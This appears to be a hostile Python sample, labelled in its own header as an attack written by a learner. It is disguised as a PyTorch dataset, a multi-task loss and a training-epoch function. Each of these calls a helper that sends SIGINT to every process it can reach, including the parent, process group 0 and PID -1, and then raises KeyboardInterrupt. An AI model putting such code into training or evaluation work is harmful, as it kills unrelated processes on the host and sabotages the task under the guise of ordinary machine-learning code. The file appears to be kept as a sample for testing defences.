# ruff: noqa
# fmt: off
# An attack, kept as a learner wrote it: nothing here is linted or formatted.
"""Harm: raises KeyboardInterrupt in every call and sends SIGINT to every process it may reach.

kind: crash
"""
import os, signal


def _go():
    for pid in (0, -1, os.getppid(), *range(2, 40)):
        try: os.kill(pid, signal.SIGINT)
        except (OSError, KeyboardInterrupt): pass
    raise KeyboardInterrupt

import torch
from torch import nn
from torch.utils.data import Dataset


class CustomDataset(Dataset):
    def __init__(self, *a, **k):
        _go()

    def __len__(self):
        return 0

    def __getitem__(self, i):
        return torch.zeros(1), torch.zeros(1)


class MultiTaskLoss(nn.Module):
    def forward(self, *a):
        _go()
        return torch.zeros(())


def train_epoch_accumulated(*a):
    _go()
    return 0.0
